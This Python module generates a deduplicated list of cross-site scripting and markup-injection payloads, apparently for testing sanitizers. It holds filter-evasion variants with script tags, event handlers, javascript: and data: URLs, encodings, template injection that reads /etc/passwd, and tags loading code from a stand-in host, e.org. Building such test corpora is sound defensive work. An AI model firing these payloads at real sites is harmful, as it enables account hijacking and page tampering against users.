"""Texts by which somebody would run a script on, restyle or lead away from a page that shows them.

Made by kind: each way in, written in each of the ways in which filters have been passed.
"""

from itertools import product

CALL = "alert(1)"

_TAGS = (
    "<script>{call}</script>",
    "<SCRIPT SRC=//e.org/x.js></SCRIPT>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script\x0c>{call}</script\x0c>",
    "<script/x>{call}</script>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "<!--><script>{call}</script>-->",
    "<noscript><p title='</noscript><script>{call}</script>'>",
    "<svg><script>{call}</script></svg>",
    "<math><mtext><script>{call}</script></mtext></math>",
    "<template><script>{call}</script></template>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<object data='data:text/html,<script>{call}</script>'></object>",
    "<embed src='javascript:{call}'>",
    "<base href='//e.org/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<link rel=stylesheet href=//e.org/x.css>",
    "<style>body{{display:none}}</style>",
    "<style>@import '//e.org/x.css';</style>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<button formaction=javascript:{call}>x</button>",
    "<isindex action=javascript:{call} type=image>",
    "<svg><style><img src=x onerror={call}></style></svg>",
    "<math><a xlink:href='javascript:{call}'>x</a></math>",
    "<svg><use href='data:image/svg+xml,<svg onload={call}>'/></svg>",
    "<svg><a href='javascript:{call}'><text>x</text></a></svg>",
    "<p style='background:url(javascript:{call})'>x</p>",
    "<div style=width:expression({call})>x</div>",
    "<input autofocus onfocus={call}>",
    "<marquee onstart={call}>x</marquee>",
    "<frameset onload={call}></frameset>",
    "<dialog open onclose={call}>x</dialog>",
)
_EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter", "onbegin")
_ELEMENTS = (
    "<img src=x {event}={call}>",
    "<svg {event}={call}>",
    '<a href="#" {event}="{call}">x</a>',
    "<details open {event}={call}>x</details>",
    "<video><source {event}={call}></video>",
    "<body {event}={call}>",
    "<p/{event}={call}>x",
    '<b "{event}={call}">x</b>',
    "<i\n{event}\n=\n{call}\n>x</i>",
)
_ADDRESSES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    " javascript:{call}",
    "java\tscript:{call}",
    "java&#10;script:{call}",
    "java&Tab;script:{call}",
    "&#106;avascript:{call}",
    "&#x6A;avascript&colon;{call}",
    "\x01javascript:{call}",
    "javascript&#58;{call}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={call}>",
    "//e.org/x",
    "blob:https://e.org/1",
    "filesystem:https://e.org/1",
    "file:///etc/passwd",
)
_LINKS = (
    "[x]({address})",
    "![x]({address})",
    "[x](<{address}>)",
    "[x]: {address}\n\n[x]",
    "<{address}>",
    "[![x]({address})]({address})",
)
_MARKDOWN = (
    '[x](https://e.org/ "onmouseover={call}")',
    "[x](https://e.org/\"onmouseover='{call}')",
    '![x](/a.png "x" onerror={call})',
    '![x" onerror="{call}](/a.png)',
    "[x' onclick='{call}](https://e.org)",
    "```<img src=x onerror={call}>\ncode\n```",
    '```" onmouseover="{call}\ncode\n```',
    "`<script>{call}</script>`",
    "# <img src=x onerror={call}>",
    "- [ ] <svg onload={call}>",
    "| <svg onload={call}> |\n| - |\n| <script>{call}</script> |",
    "> <iframe src=javascript:{call}>",
    "~~<script>{call}</script>~~",
    "**<a href=javascript:{call}>x</a>**",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "\\<script>{call}\\</script>",
    "<https://e.org/?<script>{call}</script>>",
    "[x](https://e.org/?a=%22onmouseover=%22{call})",
    "@<script>{call}</script>",
    '@group:"<script>{call}</script>"',
    '@group:"x\' onclick={call} "',
    "@grace<img src=x onerror={call}>",
    '<span class="mention" onclick="{call}">@grace</span>',
    "[@grace](javascript:{call})",
    "{{{{ constructor.constructor('{call}')() }}}}",
    "{{% include '/etc/passwd' %}}",
    "<div hx-get=/checkpoint/ hx-trigger=load>x</div>",
    "<div data-hx-on:click='{call}'>x</div>",
    "<div hx-on--load='{call}'>x</div>",
    "\u202e<script>{call}</script>",
    "<\u017fcript>{call}</\u017fcript>",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "%3Cscript%3E{call}%3C/script%3E",
    "<img src=`x` onerror={call}>",
    '<a href="x`onmouseover={call}">x</a>',
)

PAYLOADS = tuple(
    dict.fromkeys(
        text.format(call=CALL)
        for text in (
            *_TAGS,
            *(element.replace("{event}", event) for element, event in product(_ELEMENTS, _EVENTS)),
            *(link.replace("{address}", address) for link, address in product(_LINKS, _ADDRESSES)),
            *_MARKDOWN,
        )
    )
)
"""Each once."""
